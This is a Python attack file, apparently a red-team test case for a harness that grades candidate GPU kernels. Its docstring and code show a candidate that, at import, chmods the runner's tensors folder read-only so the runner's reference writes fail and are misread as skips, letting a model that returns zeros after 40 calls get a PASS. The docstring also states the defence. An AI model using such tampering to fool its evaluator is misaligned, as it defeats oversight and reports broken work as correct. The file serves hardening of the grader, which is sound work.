"""Attack (task scratch_tmp, whose reference takes 50 ms a call, so that its
slots are still being written when the candidate is imported): chmod_runner
- wrong after an instance's 40th call (zeros), and the long run that would
see it knocked out by a chmod.

What it does: at import, which runs while the runner is still writing the
reference's slot outputs (the candidate's build is asked for before the
reference's slots, so that the two overlap), it watches the runner's
tensors/ folder with stat() for the last reserve slot's file (s19c0-ref.kt),
then chmod()s that folder to 0555 through libc, holds the runner for 3 s
(its import is the build's answer) and puts the mode back.

What it exploits: Landlock governs no chmod, and both parties run as the
worker's uid, which owns the runner's folders.  The runner's own writes of
the reference's files then fail, and the runner took its own failed write
for "the reference raised on this slot's inputs": the reported slots, the
long run, the state reload and the timed calls were skipped as if the task
could not take them, and the verdict never read those skips.  Semantic PASS
for a candidate that is wrong from its 41st call on (found by a hostile
review, 2026-12-06, on task matmul: 3 of 3 runs; there the reference's
slots are so quick that the chmod comes too late about as often).

What a correct defence must do: a file of the runner's own that it cannot
write is lost evidence, never a property of the slot: the audit ends
INCONCLUSIVE with that cause.
"""
import ctypes
import os
import time

import torch
import torch.nn as nn

WRONG_AFTER = 40
_libc = ctypes.CDLL(None, use_errno=True)
_tensors = os.path.join(os.path.dirname(os.getcwd()), "runner", "tensors")


def _there(name):
    try:
        os.stat(os.path.join(_tensors, name))
        return True
    except OSError:
        return False


def _knock_out():
    t0 = time.monotonic()
    while time.monotonic() - t0 < 30:
        if _there("s41c6-ref.kt"):
            return "late: the long run's reference was written already"
        if _there("s19c0-ref.kt"):
            rc = _libc.chmod(_tensors.encode(), 0o555)
            time.sleep(3.0)
            _libc.chmod(_tensors.encode(), 0o755)
            return "chmod 0555: %s" % ("ok" if rc == 0 else os.strerror(ctypes.get_errno()))
        time.sleep(0.0002)
    return "timeout"


with open("attack-chmod-runner.marker", "w") as _m:
    _m.write(_knock_out() + "\n")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x):
        self.calls += 1
        return torch.zeros_like(x) if self.calls > WRONG_AFTER else x * 2
